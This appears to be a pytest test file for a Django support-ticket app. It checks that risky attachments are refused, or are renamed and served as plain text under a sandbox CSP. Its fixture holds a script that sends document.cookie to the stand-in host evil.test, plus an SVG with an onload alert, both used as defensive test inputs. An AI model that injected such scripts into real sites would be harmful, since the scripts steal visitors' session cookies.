"""A file that a browser or desktop would run never leaves the server under its dangerous name.

The web form refuses such names (the customer can fix it at once, and keeps what they typed); e-mail never
loses a message over one and neutralises the name instead; every download is served under a name that fits
the stored type, with a sandbox CSP and nosniff, whenever the row was stored.
"""

from __future__ import annotations

from collections.abc import Callable
from email.message import EmailMessage
from email.policy import SMTP
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from soridam.accounts.models import User
from soridam.audit.actors import Actor
from soridam.cases import actions
from soridam.cases.models import Attachment, Case
from soridam.cases.uploads import Upload
from soridam.channels import pipeline

pytestmark = pytest.mark.django_db

SCRIPT_AS_TEXT = b"Invoice 2026-0412\n<script>fetch('https://evil.test/?c=' + document.cookie)</script>\n"
DOWNLOAD_CSP = "default-src 'none'; sandbox"


def _assert_served_as_text(response: Any, name: str) -> None:
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["Content-Type"] == "text/plain"
    assert response["Content-Security-Policy"] == DOWNLOAD_CSP
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == SCRIPT_AS_TEXT


@pytest.mark.parametrize(
    "name", ["invoice.html", "invoice.HTM", "logo.svg", "run.js", "app.hta", "setup.bat", "fix.ps1", "x.pdf.exe"]
)
def test_web_form_refuses_a_file_that_would_run_and_keeps_what_the_customer_typed(
    client: Client, complaint_form: Callable[..., dict[str, Any]], name: str
) -> None:
    data = complaint_form(text="환불 요청합니다. 영수증을 첨부합니다.")
    response = client.post(
        "/complaint/", {**data, "attachments": [SimpleUploadedFile(name, SCRIPT_AS_TEXT)]}, HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert f"{name} cannot be attached" in page
    assert "환불 요청합니다. 영수증을 첨부합니다." in page
    assert 'value="minji@example.kr"' in page
    assert not Case.objects.exists()


def test_svg_behind_a_byte_order_mark_is_not_taken_for_text(
    client: Client, complaint_form: Callable[..., dict[str, Any]]
) -> None:
    svg = b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    response = client.post("/complaint/", {**complaint_form(), "attachments": [SimpleUploadedFile("logo.png", svg)]})
    assert response.status_code == 400
    assert not Attachment.objects.exists()


def test_text_under_another_name_is_stored_and_served_as_text(
    client: Client, complaint_form: Callable[..., dict[str, Any]], django_capture_on_commit_callbacks: Any
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            "/complaint/", {**complaint_form(), "attachments": [SimpleUploadedFile("order.csv", SCRIPT_AS_TEXT)]}
        )
    stored = Attachment.objects.get()
    assert (stored.filename, stored.content_type) == ("order.csv.txt", "text/plain")
    case = Case.objects.get()
    _assert_served_as_text(client.get(f"/track/{case.tracking_token}/files/{stored.pk}/"), "order.csv.txt")


def test_invoice_html_stored_before_the_fix_downloads_as_text_for_customer_and_agent(
    client: Client, make_case: Callable[..., Case], agent_actor: Actor, root: User
) -> None:
    case = make_case()
    upload = Upload(filename="invoice.html", content=SCRIPT_AS_TEXT, content_type="text/plain")
    actions.reply(case, "영수증입니다.", actor=agent_actor, uploads=[upload])
    stored = Attachment.objects.get()
    _assert_served_as_text(client.get(f"/track/{case.tracking_token}/files/{stored.pk}/"), "invoice.html.txt")
    staff = Client()
    staff.force_login(root)
    _assert_served_as_text(staff.get(f"/workspace/attachments/{stored.pk}/"), "invoice.html.txt")


def _mail_with_attachment(name: str, content: bytes) -> bytes:
    message = EmailMessage()
    message["From"] = "Kim Minji <minji@example.kr>"
    message["To"] = "support@shop.test"
    message["Subject"] = "청구서 관련 문의"
    message["Message-ID"] = "<invoice-1@mail.example.kr>"
    message["Date"] = "Sun, 22 Nov 2026 15:04:00 +0900"
    message.set_content("청구서를 첨부합니다.")
    message.add_attachment(content, maintype="text", subtype="html", filename=name)
    return message.as_bytes(policy=SMTP)


def test_emailed_invoice_html_is_kept_neutralised_and_downloads_as_text(teams: Any, root: User) -> None:
    payload, _new = pipeline.receive("email", _mail_with_attachment("invoice.html", SCRIPT_AS_TEXT), process_now=True)
    assert payload.state == "processed", payload.reason
    stored = Attachment.objects.get()
    assert (stored.filename, stored.content_type) == ("invoice.html.txt", "text/plain")
    staff = Client()
    staff.force_login(root)
    _assert_served_as_text(staff.get(f"/workspace/attachments/{stored.pk}/"), "invoice.html.txt")
    case = stored.message.case
    _assert_served_as_text(Client().get(f"/track/{case.tracking_token}/files/{stored.pk}/"), "invoice.html.txt")
